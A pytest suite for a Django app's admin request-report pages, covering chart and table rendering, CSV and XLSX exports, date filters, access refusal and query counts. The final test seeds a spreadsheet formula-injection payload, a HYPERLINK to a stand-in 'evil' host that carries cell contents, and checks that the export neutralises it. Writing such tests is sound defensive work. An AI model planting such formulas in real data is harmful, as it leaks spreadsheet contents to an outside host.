"""The request report pages: charts beside tables, exports with the chart's figures, filters, and who may open them."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.aid_requests.report_data import at, made, two_kinds_over_two_months

pytestmark = pytest.mark.django_db
PAGES = [
    "/admin/reports/requests/",
    "/admin/reports/request-speed/",
    "/admin/reports/request-outcomes/",
    "/admin/reports/dollars-secured/",
]


@pytest.mark.parametrize("url", PAGES)
def test_staff_see_each_chart_beside_its_table(staff_client, url):
    two_kinds_over_two_months()
    html = staff_client.get(url).text
    assert html.count('<svg role="img"') >= 1
    assert "<table" in html and "Download this table" in html
    assert "kozea.github.io" not in html  # no script fetched from the internet


def test_the_csv_holds_the_figures_the_chart_draws(staff_client):
    two_kinds_over_two_months()
    response = staff_client.get("/admin/reports/requests/?export=csv&table=by-kind-and-month")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["Month", "Clothing", "Dental care"], ["2025-09", "2", "0"], ["2025-10", "0", "1"]]


def test_the_xlsx_holds_the_same_figures_as_numbers(staff_client):
    two_kinds_over_two_months()
    response = staff_client.get("/admin/reports/request-speed/?export=xlsx&table=speed-by-kind")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[1] == ["Clothing", 2.0, 3.0, 5.0, 10.0, 50.0, 50.0]


def test_an_export_of_one_speed_table_holds_the_figures_of_that_table_on_the_page(staff_client):
    from aid_requests.report_filters import requests_in
    from aid_requests.request_speed import speed_tables

    two_kinds_over_two_months()
    made("hearing", at(2025, 9, 3), offer_after=5, accepted_after=9, fulfilled_after=30)
    for table in speed_tables(requests_in({})):
        response = staff_client.get(f"/admin/reports/request-speed/?export=csv&table={table.slug}")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows == [table.columns] + [["" if value is None else str(value) for value in row] for row in table.rows]


def test_a_filter_is_kept_in_the_export_links(staff_client):
    two_kinds_over_two_months()
    response = staff_client.get("/admin/reports/requests/?school_year=2025&start=2025-10-01&export=csv&table=by-status")
    assert response.content.decode().splitlines() == ["Status,Requests", "Sent to a partner agency,1"]


def test_an_end_before_the_start_is_refused_with_a_message_and_no_figures(staff_client):
    two_kinds_over_two_months()
    html = staff_client.get("/admin/reports/requests/?start=2025-10-01&end=2025-09-01").text
    assert "The end date must be on or after the start date." in html
    assert "<svg" not in html.split("</form>", 1)[1]


@pytest.mark.parametrize("query", ["?start=yesterday", "?school_year=99999999999999999999", "?kind=abc"])
def test_nonsense_in_the_address_gets_an_error_not_a_crash(staff_client, query):
    response = staff_client.get("/admin/reports/requests/" + query)
    assert response.status_code == 200 and 'role="alert"' in response.text


def test_an_empty_range_says_there_is_nothing_to_show(staff_client):
    two_kinds_over_two_months()
    html = staff_client.get("/admin/reports/request-speed/?start=2030-01-01").text
    assert html.count("Nothing to show for these filters.") == 2


@pytest.mark.parametrize("url", PAGES)
def test_a_partner_agency_user_and_a_family_are_refused(agency_client, url):
    assert agency_client.get(url).status_code == 403


def test_each_page_runs_as_many_queries_for_many_requests_as_for_few(staff_client):
    two_kinds_over_two_months()
    counts = []
    for extra in (0, 15):
        for number in range(extra):
            made("hearing", at(2025, 9, 1 + number), offer_after=number, accepted_after=number + 1)
        with CaptureQueriesContext(connection) as queries:
            for url in PAGES:
                staff_client.get(url)
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_a_school_typed_as_a_formula_is_text_in_the_export_and_a_listed_school_counts_by_name(staff_client):
    from aid_requests.models import Household
    from tests.resources.factories import SchoolFactory

    made("clothing", at(2025, 10, 2), school='=HYPERLINK("http://evil/"&A1,"x")')
    listed = made("clothing", at(2025, 10, 3), school="")
    Household.objects.filter(pk=listed.household_id).update(school=SchoolFactory(name="Running Brook Elementary"))
    response = staff_client.get("/admin/reports/requests/?export=xlsx&table=by-school")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert cells == {'\'=HYPERLINK("http://evil/"&A1,"x")': 1, "Running Brook Elementary": 1}
